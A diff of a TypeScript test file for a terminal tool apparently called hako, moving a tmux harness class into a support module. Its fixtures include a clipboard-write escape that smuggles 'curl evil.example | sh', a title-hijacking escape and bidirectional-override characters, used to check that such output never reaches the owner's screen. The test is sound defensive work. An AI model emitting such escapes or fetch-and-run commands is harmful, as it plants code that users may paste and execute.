@@ -6,15 +6,14 @@
 
 import { describe, test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { execFileSync } from 'node:child_process';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { startModelServer, type ModelServer } from '../support/model-server.ts';
 import { freePort, type ApiMessage } from '../support/hako.ts';
+import { Terminal, TERMINAL_COLUMNS } from '../support/terminal.ts';
 
-const HAKO = path.resolve(import.meta.dirname, '..', '..', 'bin', 'hako.mjs');
-const COLUMNS = 100;
+const COLUMNS = TERMINAL_COLUMNS;
 
 const OSC52 = `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
 const TITLE = '\x1b]0;PWNED-TITLE\x07';
@@ -22,64 +21,6 @@ const RED = '\x1b[31m';
 const RESET = '\x1b[0m';
 const C1_CSI = '\u009b';
 const RLO = '\u202e';
-
-/** One tmux server of our own (its socket in a folder of its own), one window per command. */
-class Terminal {
-  readonly #dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hako-tmux-'));
-  readonly #env: Record<string, string>;
-  #started = false;
-
-  constructor(env: Record<string, string>) {
-    this.#env = env;
-  }
-
-  tmux(...args: string[]): string {
-    return execFileSync('tmux', ['-S', path.join(this.#dir, 'socket'), '-f', '/dev/null', ...args], { encoding: 'utf8', env: this.#env });
-  }
-
-  /** Runs `hako <args>` in a new window named `name`; the window stays after it exits. */
-  run(name: string, args: string[]): void {
-    const command = ['exec', process.execPath, HAKO, ...args].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
-    if (this.#started) {
-      this.tmux('new-window', '-d', '-t', 'hako', '-n', name, command);
-      return;
-    }
-    // Options are set before any hako output: OSC 52 then becomes a tmux buffer, visible to the test.
-    this.tmux('new-session', '-d', '-s', 'hako', '-n', name, '-x', String(COLUMNS), '-y', '50', command,
-      ';', 'set', '-g', 'set-clipboard', 'on', ';', 'set', '-g', 'remain-on-exit', 'on', ';', 'set', '-g', 'history-limit', '5000');
-    this.#started = true;
-  }
-
-  /** The window's rows as shown, scrollback included; `-e` keeps colours as escape sequences. */
-  screen(name: string): string {
-    return this.tmux('capture-pane', '-p', '-e', '-S', '-', '-t', `hako:${name}`);
-  }
-
-  /** The same with rows that the terminal wrapped joined again, for looking for a text. */
-  text(name: string): string {
-    return this.tmux('capture-pane', '-p', '-J', '-S', '-', '-t', `hako:${name}`);
-  }
-
-  show(name: string, format: string): string {
-    return this.tmux('display-message', '-p', '-t', `hako:${name}`, format).trim();
-  }
-
-  /** Waits (bounded) until the window shows what `pred` looks for. */
-  async waitFor(name: string, pred: (screen: string) => boolean, what: string, timeoutMs = 60_000): Promise<string> {
-    const deadline = Date.now() + timeoutMs;
-    for (;;) {
-      const screen = this.screen(name);
-      if (pred(screen)) return screen;
-      if (Date.now() > deadline) throw new Error(`window "${name}" did not show ${what} within ${timeoutMs} ms:\n${screen}`);
-      await new Promise((r) => setTimeout(r, 100));
-    }
-  }
-
-  close(): void {
-    if (this.#started) this.tmux('kill-server');
-    fs.rmSync(this.#dir, { recursive: true, force: true });
-  }
-}
 
 /** What the owner's screen must never get: no escape left for tmux to interpret as colour, no changed title, no clipboard write. */
 function assertUndriven(term: Terminal, name: string, screen: string): void {
